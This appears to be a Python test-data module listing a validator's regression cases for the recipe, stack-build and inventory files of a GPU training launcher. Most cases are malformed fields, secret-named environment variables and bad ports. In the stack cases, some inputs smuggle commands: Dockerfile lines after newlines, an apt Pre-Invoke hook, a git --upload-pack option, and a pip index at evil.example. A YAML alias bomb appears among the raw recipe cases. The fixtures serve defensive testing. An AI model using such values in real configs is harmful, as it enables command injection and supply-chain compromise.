"""The regression corpus of issue 12: every bad input the adversarial review reported, and some
good neighbours that must stay accepted. Each case: (id, changes, expected), where `expected` is the
text that must appear in the error (the field named), or None for an input that must be accepted.

Recipe changes are merged onto tests/helpers.SEED_RECIPE ("__set__" holds --set items instead);
stack changes onto tests/stacks/test.yaml; inventory changes onto BASE_INVENTORY. A value of DROP
removes the key. Raw YAML documents (bytes) replace the whole file.
"""

from __future__ import annotations

DROP = object()
SK = "sk-ant-api03-" + "A" * 40

RECIPE_CASES: list[tuple[str, object, str | None]] = [
    # trailing newline and other controls in names and paths (re.match with $ let "t1\n" through)
    ("exp_id-newline", {"exp_id": "t1\n"}, "exp_id"),
    ("exp_id-nul", {"exp_id": "t\x001"}, "exp_id"),
    ("exp_id-bidi", {"exp_id": "t\u202e1"}, "exp_id"),
    ("exp_id-slash", {"exp_id": "../t1"}, "exp_id"),
    ("model_dir-bidi", {"model_dir": "/models/\u2066x"}, "model_dir"),
    ("data_path-newline", {"data_path": "/data/x\n--lr 1"}, "data_path"),
    ("arn-newline",
     {"agent_runtime_arn": "arn:aws:bedrock-agentcore:us-west-2:123456789012:runtime/gsm8k_agent-a1B2c3D4e5\n"},
     "agent_runtime_arn"),
    ("env-value-newline", {"env": {"MY_VAR": "a\nb"}}, "env.MY_VAR"),
    ("env-key-newline", {"env": {"MY_VAR\n": "a"}}, "env.MY_VAR"),
    ("env-key-dash", {"env": {"MY-VAR": "a"}}, "env.MY-VAR"),
    ("eval-path-nul", {"eval_data": {"gsm8k": "/eval/\x00x"}}, "eval_data.gsm8k"),
    # secrets, by name in any case and of any provider, and by the shape of the value
    ("secret-openai", {"env": {"OPENAI_API_KEY": "x"}}, "env.OPENAI_API_KEY"),
    ("secret-anthropic", {"env": {"ANTHROPIC_API_KEY": "x"}}, "env.ANTHROPIC_API_KEY"),
    ("secret-github-pat", {"env": {"GITHUB_PAT": "x"}}, "env.GITHUB_PAT"),
    ("secret-lowercase-wandb", {"env": {"wandb_api_key": "x"}}, "env.wandb_api_key"),
    ("secret-hf-token", {"env": {"HF_TOKEN": "x"}}, "env.HF_TOKEN"),
    ("secret-password", {"env": {"DB_PASSWORD": "x"}}, "env.DB_PASSWORD"),
    ("secret-aws", {"env": {"aws_secret_access_key": "x"}}, "env.aws_secret_access_key"),
    ("secret-apikey", {"env": {"MISTRAL_APIKEY": "x"}}, "env.MISTRAL_APIKEY"),
    ("secret-value-shape", {"env": {"MY_NOTE": SK}}, "env.MY_NOTE"),
    ("secret-flag", {"extra_flags": ["--wandb-key", "abc"]}, "extra_flags[0]"),
    ("secret-flag-eq", {"extra_flags": ["--hf-token=abc"]}, "extra_flags[0]"),
    ("secret-flag-value-shape", {"extra_flags": ["--rollout-seed", SK]}, "extra_flags[1]"),
    ("not-a-secret", {"env": {"NCCL_DEBUG": "INFO", "TOKENIZERS_PARALLELISM": "false"}}, None),
    # extra_flags by their grammar
    ("flag-trailing-space", {"extra_flags": ["--lr "]}, "extra_flags[0]"),
    ("flag-with-value-in-one-item", {"extra_flags": ["--lr 1e-5"]}, "extra_flags[0]"),
    ("flag-leading-space", {"extra_flags": [" --lr"]}, "extra_flags[0]"),
    ("flag-underscore", {"extra_flags": ["--weight_decay", "0.1"]}, "extra_flags[0]"),
    ("flag-uppercase", {"extra_flags": ["--Lr", "1"]}, "extra_flags[0]"),
    ("flag-value-first", {"extra_flags": ["1e-5", "--rollout-seed"]}, "extra_flags[0]"),
    ("flag-double-dash-alone", {"extra_flags": ["--"]}, "extra_flags[0]"),
    ("flag-single-dash", {"extra_flags": ["-x"]}, "extra_flags[0]"),
    ("flag-empty", {"extra_flags": [""]}, "extra_flags[0]"),
    ("flag-repeats-recipe", {"extra_flags": ["--lr", "1e-5"]}, "extra_flags[0]"),
    ("flag-dead", {"extra_flags": ["--use-dynamic-global-batch-size"]}, "extra_flags[0]"),
    # an abbreviation of a flag the recipe sets: argparse (allow_abbrev) takes it for that flag
    ("flag-abbreviates-recipe", {"extra_flags": ["--sglang-mem", "0.9"]}, "abbreviates --sglang-mem-fraction-static"),
    ("flag-abbreviates-recipe-eq", {"extra_flags": ["--max-tokens=4096"]}, "abbreviates --max-tokens-per-gpu"),
    ("flag-abbreviates-several", {"extra_flags": ["--eps", "0.3"]}, "abbreviates --eps-clip, --eps-clip-high"),
    # max_tokens_per_gpu must hold the longest sample: its prompt plus rollout_max_response_len
    ("max_tokens-below-response", {"max_tokens_per_gpu": 512, "rollout_max_response_len": 1024}, "at least 1025"),
    ("max_tokens-below-prompt-plus-response", {"max_tokens_per_gpu": 2048, "rollout_max_response_len": 1024,
                                               "extra_flags": ["--rollout-max-prompt-len", "1536"]}, "at least 2560"),
    ("max_tokens-below-context", {"max_tokens_per_gpu": 1500, "extra_flags": ["--rollout-max-context-len=2000"]},
     "at least 2000"),
    ("max_tokens-holds-the-sample", {"max_tokens_per_gpu": 2560, "rollout_max_response_len": 1024,
                                     "extra_flags": ["--rollout-max-prompt-len", "1536"]}, None),
    ("max_tokens-context-parallel", {"max_tokens_per_gpu": 1300, "rollout_max_response_len": 2048,
                                     "extra_flags": ["--context-parallel-size", "2", "--rollout-max-prompt-len",
                                                     "512"]}, None),
    ("flags-good", {"extra_flags": ["--rollout-seed", "-1", "--entropy-coef=0.0", "--use-tis", "--sglang-json",
                                    '{"a": 1}']}, None),
    # numbers: inf/nan, negatives, bounds (a huge num_gpus once hung listing every divisor)
    ("weight_decay-nan", {"weight_decay": float("nan")}, "weight_decay"),
    ("lr-inf", {"lr": float("inf")}, "lr"),
    ("temperature-neg-inf", {"rollout_temperature": float("-inf")}, "rollout_temperature"),
    ("eval_interval-negative", {"eval_interval": -5}, "eval_interval"),
    ("save_interval-zero", {"save_interval": 0}, "save_interval"),
    ("save_interval-negative", {"save_interval": -1}, "save_interval"),
    ("num_gpus-huge", {"num_gpus": 10**12, "tp_size": 7}, "num_gpus"),
    ("num_gpus-2e63", {"num_gpus": 2**63}, "num_gpus"),
    ("num_nodes-huge", {"num_nodes": 10**9}, "num_nodes"),
    ("rollout_batch_size-huge", {"rollout_batch_size": 10**30}, "rollout_batch_size"),
    ("tp_size-not-divisor", {"tp_size": 3}, "tp_size"),
    # values that look like flags
    ("wandb_project-flag", {"wandb_project": "--lr"}, "wandb_project"),
    ("wandb_group-dash", {"wandb_group": "-x"}, "wandb_group"),
    ("eval-name-flag", {"eval_data": {"--lr": "/eval/x.jsonl"}}, "eval_data.--lr"),
    ("model_id-flag", {"model_id": "--debug"}, "model_id"),
    ("model_type-flag", {"model_type": "--x"}, "model_type"),
    ("wandb-good", {"wandb_project": "gsm8k", "wandb_group": "run_1.a-b"}, None),
    # ports
    ("gateway_port-high", {"gateway_port": 99999}, "gateway_port"),
    ("ray_port-zero", {"ray_port": 0}, "ray_port"),
    ("ray_port-negative", {"ray_port": -1}, "ray_port"),
    ("ray_port-float-zero", {"ray_port": 0.0}, "ray_port"),
    ("ports-collide", {"ray_port": 8265, "ray_dashboard_port": 8265}, "ports"),
    ("gateway_port-collides", {"gateway_port": 6379}, "ports"),
    ("gateway_port-zero-ok", {"gateway_port": 0}, None),
    # images by the OCI reference grammar
    ("image-dash", {"image": "-evil"}, "image"),
    ("image-option", {"image": "--help"}, "image"),
    ("image-newline", {"image": "reg.example.com/x:1\nFROM evil"}, "image"),
    ("image-upper", {"image": "Reg.example.com/UPPER:tag"}, "image"),
    ("image-untagged", {"image": "reg.example.com/x"}, "image"),
    ("image-good", {"image": "reg.example.com:5000/slimeforge/cu13@sha256:" + "a" * 64}, None),
    ("mode-bogus", {"mode": "bogus"}, "mode"),
    ("install_prefix-relative", {"mode": "host", "install_prefix": "opt/sf"}, "install_prefix"),
    ("types-string-for-int", {"num_gpus": "eight"}, "num_gpus"),
    ("types-list-for-str", {"exp_id": ["a"]}, "exp_id"),
    ("types-unknown-key", {"num_gpu": 8}, "num_gpu"),
    # --set values are typed by the schema, and their problems blame the command line
    ("set-save-no", {"__set__": ["save=no"]}, "--set save"),
    ("set-save-false", {"__set__": ["save=false"]}, None),
    ("set-env-int", {"__set__": ["env.X=4"]}, None),
    ("set-exp_id-number", {"__set__": ["exp_id=1e3"]}, None),
    ("set-wandb-no", {"__set__": ["wandb_project=no"]}, None),
    ("set-num_gpus-text", {"__set__": ["num_gpus=abc"]}, "--set num_gpus"),
    ("set-unknown", {"__set__": ["bogus_key=1"]}, "--set bogus_key"),
    ("set-key-newline", {"__set__": ["exp_id\n=1"]}, "--set"),
    ("set-secret", {"__set__": ["env.OPENAI_API_KEY=x"]}, "--set env.OPENAI_API_KEY"),
    # issue 33: booleans are not numbers, text numbers are ASCII digits
    ("num_gpus-true", {"num_gpus": True, "tp_size": 1, "rollout_gpus_per_engine": 1}, "num_gpus: is a yes/no value"),
    ("gateway_port-false", {"gateway_port": False}, "gateway_port: is a yes/no value"),
    ("save_interval-arabic-digits", {"save_interval": "\u0662\u0660"}, "save_interval: is text, not a number"),
    ("set-num_gpus-true", {"__set__": ["num_gpus=true"]}, "--set num_gpus"),
    # issue 33: paths a run never uses, mount separators, the environment slimeforge sets
    ("checkpoint_dir-root", {"checkpoint_dir": "/"}, "checkpoint_dir: is the root directory"),
    ("checkpoint_dir-boot", {"checkpoint_dir": "/boot/x"}, "checkpoint_dir: is under a system directory"),
    ("data_path-sys", {"data_path": "/sys/x.jsonl"}, "data_path: is under a system directory"),
    ("model_dir-colon", {"model_dir": "/models/a:b"}, "model_dir: holds ':'"),
    ("env-ray-address", {"env": {"RAY_ADDRESS": "http://evil:8265"}}, "env.RAY_ADDRESS: is set by slimeforge itself"),
    ("env-slimeforge-prefix", {"env": {"SLIMEFORGE_HEAD_TIMEOUT": "1"}}, "env.SLIMEFORGE_HEAD_TIMEOUT"),
    ("secret_env-path", {"secret_env": ["PATH"]}, "secret_env.0"),
    ("flag-value-superscript", {"extra_flags": ["--rollout-max-prompt-len", "\u00b2"]},
     "extra_flags --rollout-max-prompt-len: is not a whole number"),
    ("flag-value-arabic-digit", {"extra_flags": ["--context-parallel-size=\u0662"]},
     "extra_flags --context-parallel-size"),
    ("paths-near-system-dirs-ok", {"checkpoint_dir": "/etcetera/ckpt", "data_path": "/data/usr/x.jsonl"}, None),
]

# Whole recipe files (bytes): YAML-level problems, found before anything is built from the text.
_BOMB = b"a: &a [x,x,x,x,x,x,x,x,x,x]\n" + b"".join(
    f"{chr(98 + i)}: &{chr(98 + i)} [{', '.join(['*' + chr(97 + i)] * 10)}]\n".encode() for i in range(9))
RAW_RECIPE_CASES: list[tuple[str, bytes, str | None]] = [
    ("yaml-duplicate-key", b"exp_id: a\nexp_id: b\n", "duplicate key 'exp_id'"),
    ("yaml-alias-bomb", _BOMB, "expands to more than"),
    ("yaml-deep-nesting", b"x: " + b"[" * 5000 + b"]" * 5000 + b"\n", "nests deeper than"),
    ("yaml-recursive-alias", b"x: &a [*a]\n", "refers to the value that contains it"),
    ("yaml-not-utf8", b"exp_id: t\xff1\n", "is not UTF-8"),
    ("yaml-list", b"- a\n- b\n", "must hold a YAML mapping"),
    ("yaml-too-big", b"#" * (64 << 10) + b"\nexp_id: a\n", "larger than"),
    ("yaml-long-flow-list", b"x: [" + b"a," * 30000 + b"]\n", "expands to more than"),
    ("yaml-nul-escape", b'exp_id: "t\\0"\n', "exp_id"),
    ("yaml-bad", b"exp_id: [\n", "is not valid YAML"),
]

STACK_CASES: list[tuple[str, object, str | None]] = [
    ("base-image-newline", {"base": {"image": "slimeforge-test/base:bookworm\nFROM attacker/evil"}}, "base.image"),
    ("base-image-dash", {"base": {"image": "-evil"}}, "base.image"),
    ("base-digest-newline", {"base": {"digest": "sha256:" + "a" * 64 + "\n"}}, "base.digest"),
    ("version-newline", {"version": "0.0.1\nRUN touch /pwned"}, "version"),
    ("step-env-newline", {"steps": {0: {"env": {"X": "a\nFROM attacker/evil"}}}}, "steps.0.env.X"),
    ("step-env-key", {"steps": {0: {"env": {"X Y": "a"}}}}, "steps.0.env"),
    ("step-name-newline", {"steps": {0: {"name": "build-tools\n"}}}, "steps"),
    ("apt-option", {"steps": {0: {"pip": DROP, "apt": ["-oDPkg::Pre-Invoke::=touch /tmp/pwned"]}}}, "steps.0.apt.0"),
    ("apt-good", {"steps": {0: {"pip": DROP, "apt": ["python3-dev", "g++", "libc6=2.36-9"]}}}, None),
    ("git-url-option", {"sources": {"libdemo": {"git": "--upload-pack=touch /tmp/pwned"}}}, "sources.libdemo.git"),
    ("git-url-good-ssh", {"sources": {"libdemo": {"git": "git@github.com:org/libdemo.git"}}}, None),
    ("pip-pin-option", {"versions": {"six": "--extra-index-url=http://evil.example/simple"}}, "versions.six"),
    ("pip-name-option", {"versions": {"--extra-index-url=http://evil": "1.0"}}, "versions"),
    ("pip-pin-spaces", {"versions": {"six": "1.17.0 --pre"}}, "versions.six"),
    ("pip-pin-specifiers", {"versions": {"six": ">=1.16,<2"}}, None),
    ("source-dir-dotdot", {"sources": {"libdemo": {"dir": "../etc"}}}, "sources.libdemo.dir"),
    ("venv-relative", {"venv": "opt/venv"}, "venv"),
    ("duplicate-step", {"steps": {1: {"name": "build-tools"}}}, "repeated: build-tools"),
    ("name-newline", {"name": "sftest\n"}, "name"),
    ("patch-file-slash", {"patches": {"files": {0: {"file": "../x.patch"}}}}, "patches.files.0.file"),
]

BASE_INVENTORY = {
    "name": "lab",
    "mode": "container",
    "image": "reg.example.com/slimeforge/cu13@sha256:" + "b" * 64,
    "hosts": [
        {"name": "gpu-a", "address": "10.0.0.11", "role": "head", "gpus": 8},
        {"name": "gpu-b", "address": "10.0.0.12", "gpus": 8},
    ],
}

INVENTORY_CASES: list[tuple[str, object, str | None]] = [
    ("image-option-with-digest", {"image": "-v/:/host@sha256:" + "a" * 64}, "image"),
    ("image-digest-tail-only", {"image": "not an image@sha256:" + "a" * 64}, "image"),
    ("ray-port-negative", {"ray": {"port": -1}}, "ray.port"),
    ("ray-port-zero", {"ray": {"port": 0}}, "ray.port"),
    ("ray-port-high", {"ray": {"dashboard_port": 99999}}, "ray.dashboard_port"),
    ("ray-port-float-zero", {"ray": {"port": 0.0}}, "ray.port"),  # found by the fuzz tests
    ("ray-ports-collide", {"ray": {"port": 8265}}, "must differ"),
    ("ssh-port-zero", {"ssh": {"port": 0}}, "ssh.port"),
    ("host-port-high", {"hosts": {1: {"port": 70000}}}, "hosts.1.port"),
    ("same-host-twice", {"hosts": {1: {"address": "10.0.0.11"}}}, "same host"),
    ("same-host-port-22", {"hosts": {0: {"port": 22}, 1: {"address": "10.0.0.11"}}}, "same host"),
    ("same-host-case", {"hosts": {0: {"address": "GPU-A.example.com"}, 1: {"address": "gpu-a.example.com."}}},
     "same host"),
    ("ray-env-key", {"ray": {"env": {"BAD-KEY": "1"}}}, "ray.env"),
    ("ray-env-secret", {"ray": {"env": {"HF_TOKEN": "x"}}}, "ray.env.HF_TOKEN"),
    ("ray-env-value-newline", {"ray": {"env": {"NCCL_IB_HCA": "mlx5\nx"}}}, "ray.env.NCCL_IB_HCA"),
    ("ray-temp-dir-relative", {"ray": {"temp_dir": "tmp/ray"}}, "ray.temp_dir"),
    ("gpus-huge", {"hosts": {0: {"gpus": 10**9}}}, "hosts.0.gpus"),
    ("start-timeout-huge", {"ray": {"start_timeout": 1e9}}, "ray.start_timeout"),
    ("start-timeout-inf", {"ray": {"start_timeout": float("inf")}}, "ray.start_timeout"),
    ("name-newline", {"name": "lab\n"}, "name"),
    ("host-name-newline", {"hosts": {0: {"name": "gpu-a\n"}}}, "hosts.0.name"),
    ("address-newline", {"hosts": {0: {"address": "10.0.0.11\n"}}}, "hosts.0.address"),
    ("user-newline", {"ssh": {"user": "ubuntu\n"}}, "ssh.user"),
    ("image-not-pinned", {"image": "reg.example.com/slimeforge/cu13:latest"}, "image"),
    ("gpus-true", {"hosts": {0: {"gpus": True}}}, "hosts.0.gpus: is a yes/no value"),  # issue 33
    ("ssh-port-true", {"ssh": {"port": True}}, "ssh.port: is a yes/no value"),
    ("good", {}, None),
]
